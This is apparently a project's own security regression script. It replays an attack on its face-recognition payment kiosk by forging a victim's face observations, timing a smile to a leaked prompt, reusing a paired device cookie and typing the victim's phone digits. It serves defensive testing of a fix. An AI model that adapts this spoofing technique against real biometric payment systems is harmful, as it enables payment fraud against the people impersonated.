// The forged-observation attack of the 2026-12 security review, as a script: a client that
// posts synthetic observations carrying a victim's descriptor (computed from photos of the
// victim with our own pipeline), neutral and then smiling just after the prompt (the session
// view used to reveal it in advance as prompt_at_ms), then types the victim's phone digits if
// asked. Against the kiosk before issue 10 it paid in 50 of 50 sessions; it must pay in none.
// It tries as the strongest attacker it can be: with a paired screen's device token cookie
// when given one (--pair-link spends a one-time link first), else as any page on the origin.
//
//   node --import tsx scripts/attack-forged-observations.ts --url http://127.0.0.1:8080 \
//     [--pair-link URL | --cookie smile_screen=...] [--runs 1000] [--digits 0042] [--json]
//
// Prints the outcome of each step by code and ends with one JSON line:
// {"attack":"forged-observations","runs":N,"paid":N,"outcomes":{...}}.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { fileURLToPath } from 'node:url';
import type { FaceObservation } from '../electron/contract/vision.js';

/** One session's HTTP call budget: a session is a few hundred calls. */
const CALL_TIMEOUT_MS = 10_000;
const FRAME_MS = 1000 / 15;

export interface ForgedFrames {
  /** Real observations of the victim (our own pipeline on their frames), neutral and smiling. */
  neutral: FaceObservation[];
  smiling: FaceObservation[];
}

export interface AttackOutcome {
  paid: boolean;
  /** What stopped it (an error code, a refusal code), or 'paid'. */
  outcome: string;
}

type Result = { ok: true; value: Record<string, unknown> } | { ok: false; error: { code: string; message: string } };

async function call(url: string, cookie: string | undefined, channel: string, request: unknown): Promise<Result> {
  const res = await fetch(`${url}/api/call/${channel}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(cookie ? { cookie } : {}) },
    body: JSON.stringify(request),
    signal: AbortSignal.timeout(CALL_TIMEOUT_MS),
  });
  return (await res.json()) as Result;
}

/** One forged session: an order, a payment, observations timed on the revealed prompt, digits. */
export async function forgedSession(
  url: string,
  cookie: string | undefined,
  frames: ForgedFrames,
  digits: string,
): Promise<AttackOutcome> {
  const refused = (r: Result): AttackOutcome => ({ paid: false, outcome: r.ok ? 'unexpected' : r.error.code });
  const order = await call(url, cookie, 'orders:create', { lines: [{ item_id: 'tea', quantity: 1 }] });
  if (!order.ok) return refused(order);
  let view = await call(url, cookie, 'payment:start', { order_id: order.value.order_id });
  if (!view.ok) return refused(view);
  const sessionId = view.value.session_id as string;
  let t = 1_000_000;
  let smiledFor: number | null = null;
  for (let n = 0; n < 600; n++) {
    const phase = view.value.phase as string;
    if (phase !== 'looking' && phase !== 'prompt') break;
    // The old view told when the prompt comes: smile 400 ms after it, on the observations' clock.
    const promptAtMs = view.value.prompt_at_ms as number | null | undefined;
    if (promptAtMs !== null && promptAtMs !== undefined && promptAtMs !== smiledFor && t >= promptAtMs + 400)
      smiledFor = promptAtMs;
    const smiling = smiledFor !== null && smiledFor === promptAtMs;
    const pool = smiling ? frames.smiling : frames.neutral;
    const observation = { ...pool[n % pool.length]!, frame_seq: n, captured_at_ms: t };
    const next = await call(url, cookie, 'session:observe', { session_id: sessionId, observation });
    if (!next.ok) return refused(next);
    view = next;
    t += FRAME_MS;
  }
  if (view.value.phase === 'step_up') {
    const paid = await call(url, cookie, 'payment:step-up', { session_id: sessionId, phone_last4: digits });
    if (!paid.ok) return refused(paid);
    view = paid;
  }
  if (view.value.phase === 'done' && view.value.receipt) return { paid: true, outcome: 'paid' };
  const error = view.value.error as { code: string } | null;
  return { paid: false, outcome: error?.code ?? String(view.value.phase) };
}

/** The victim's observations: our own pipeline on d0's frames (neutral ones, smiling ones). */
export async function victimFrames(): Promise<ForgedFrames> {
  const { initNodeVision } = await import('../native/backend.node.js');
  const { FacePipeline } = await import('../vision/pipeline.js');
  const { decodeImage } = await import('../native/image.node.js');
  const { splitMjpeg } = await import('../native/mjpeg.js');
  const { fixturesDir } = await import('../electron/host/demo/demo.js');
  const v = await initNodeVision();
  const pipe = new FacePipeline(v.faceapi, v.backend, { descriptor_every_frames: 1 });
  const jpegs = splitMjpeg(readFileSync(join(fixturesDir(), 'video', 'd0.mjpeg')));
  const all: FaceObservation[] = [];
  for (let i = 0; i < jpegs.length; i++) all.push(await pipe.observe(decodeImage(jpegs[i]!), i * FRAME_MS));
  const neutral = all.filter((o) => o.face && o.face.smile < 0.1);
  const smiling = all.filter((o) => o.face && o.face.smile > 0.95);
  if (neutral.length < 3 || smiling.length < 3) throw new Error('d0: expected neutral and smiling frames');
  return { neutral, smiling };
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      url: { type: 'string', default: 'http://127.0.0.1:8080' },
      'pair-link': { type: 'string' },
      cookie: { type: 'string' },
      runs: { type: 'string', default: '1000' },
      digits: { type: 'string', default: '0042' },
      json: { type: 'boolean' },
    },
  });
  const url = values.url!.replace(/\/$/, '');
  let cookie = values.cookie;
  if (values['pair-link']) {
    const r = await fetch(values['pair-link'], { redirect: 'manual' });
    cookie = /smile_screen=[A-Za-z0-9_-]+/.exec(r.headers.get('set-cookie') ?? '')?.[0];
    console.log(`pairing link: HTTP ${r.status}, ${cookie ? 'a device token' : 'no device token'}`);
  }
  const frames = await victimFrames();
  const runs = Number(values.runs);
  const outcomes: Record<string, number> = {};
  let paid = 0;
  const t0 = Date.now();
  for (let i = 0; i < runs; i++) {
    const r = await forgedSession(url, cookie, frames, values.digits!);
    if (r.paid) paid++;
    outcomes[r.outcome] = (outcomes[r.outcome] ?? 0) + 1;
    if ((i + 1) % 100 === 0 || i + 1 === runs)
      console.log(`${i + 1} sessions, ${paid} paid, ${Date.now() - t0} ms: ${JSON.stringify(outcomes)}`);
  }
  console.log(JSON.stringify({ attack: 'forged-observations', runs, paid, paired: cookie !== undefined, outcomes }));
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) await main();
